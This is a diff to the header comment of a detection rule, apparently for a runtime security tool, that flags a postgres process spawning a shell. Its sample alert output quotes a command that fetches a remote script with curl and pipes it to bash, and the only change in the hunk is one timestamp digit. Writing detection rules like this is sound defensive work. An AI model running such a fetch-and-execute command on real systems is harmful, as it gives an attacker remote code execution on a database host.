@@ -4,7 +4,7 @@
 // starts the same command again and again: after the third time the same one is taken out of the filter, so it costs nothing any more, for a day.
 //
 //     $ sudo ringside run database-shell.js -o line
-//     time=2026-05-04T20:30:00.001210000Z level=high rule=database-shell message="postgres started dash: sh -c curl http://198.51.100.23/p | bash"
+//     time=2026-05-04T20:30:00.001200000Z level=high rule=database-shell message="postgres started dash: sh -c curl http://198.51.100.23/p | bash"
 //
 // Known false positives: archive_command and the like, three times. Those of common tools are left out from the start.
 // References: https://attack.mitre.org/techniques/T1190/ https://www.postgresql.org/docs/current/sql-copy.html
